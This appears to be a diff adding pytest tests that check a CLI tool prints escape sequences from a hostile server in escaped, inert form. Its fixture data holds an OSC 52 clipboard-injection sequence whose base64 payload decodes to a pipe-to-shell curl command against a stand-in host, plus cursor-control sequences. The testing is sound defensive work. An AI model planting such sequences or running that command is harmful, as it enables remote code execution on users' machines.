@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -93,3 +96,86 @@ def test_bad_settings_are_reported_not_raised(monkeypatch: pytest.MonkeyPatch) -
     monkeypatch.setenv("ROUTINED_WORKERS", "many")
     result = runner.invoke(app, ["list"])
     assert result.exit_code == 1 and "ROUTINED_WORKERS: 'many' is not a number" in result.output
+
+
+# What a server answers reaches the terminal inert too: a `--server` that answers with
+# escape sequences (in an error's message, in a run's fields) drives nothing.
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo\x07"
+C1 = "\x9b2J\x9d0;title\x9c\x85\x7f"
+CONTROLS = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]} - {"\n"}
+
+
+@pytest.fixture
+def hostile_server() -> Iterator[str]:
+    """A server that answers `/api/v1/runs` with a run an agent wrote, and anything
+    else with an error whose message holds escape sequences; its URL."""
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body: object
+            if self.path.startswith("/api/v1/runs?"):
+                status, body = 200, [hostile_run()]
+            else:
+                status, body = 404, {"error": {"message": f"no such thing{CLIPBOARD}{C1}"}}
+            encoded = json.dumps(body).encode()
+            self.send_response(status)
+            self.send_header("content-type", "application/json")
+            self.send_header("content-length", str(len(encoded)))
+            self.end_headers()
+            self.wfile.write(encoded)
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}"
+    finally:
+        server.shutdown()
+        thread.join()
+        server.server_close()
+
+
+def hostile_run() -> dict[str, object]:
+    return {
+        "id": "run_1",
+        "session_id": "session_1",
+        "routine": "nightly",
+        "status": "failed",
+        "created_at": "2026-11-28T12:00:00Z",
+        "branches": [{"branch": f"claude/x{C1}"}],
+        "error": f"agent_failed: {CLIPBOARD}\x1b[1A\x1b[2K{C1}",
+        "summary": f"done{CLIPBOARD}",
+    }
+
+
+def inert(output: str) -> str:
+    found = sorted({f"U+{ord(c):04X}" for c in output if c in CONTROLS})
+    assert not found, f"{found} reach the terminal:\n{output!r}"
+    return output
+
+
+def test_a_servers_error_message_reaches_the_terminal_inert(
+    hostile_server: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("ROUTINED_API_KEY", "rtd_anything")
+    result = runner.invoke(app, ["--server", hostile_server, "show-run", "run_1"])
+    assert result.exit_code == 1
+    said = inert(result.stderr)
+    assert "no such thing\\u001b]52;c;" in said and "\\u009b2J\\u009d0;title" in said
+
+
+def test_a_servers_runs_reach_the_terminal_inert_and_json_stays_exact(
+    hostile_server: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("ROUTINED_API_KEY", "rtd_anything")
+    monkeypatch.setenv("COLUMNS", "1000")
+    listed = runner.invoke(app, ["--server", hostile_server, "runs"])
+    assert listed.exit_code == 0, listed.output
+    shown = inert(listed.stdout)
+    assert "claude/x\\u009b2J" in shown and "\\u001b[1A\\u001b[2K" in shown
+    as_json = runner.invoke(app, ["--server", hostile_server, "runs", "--json"])
+    assert json.loads(inert(as_json.stdout)) == [hostile_run()]
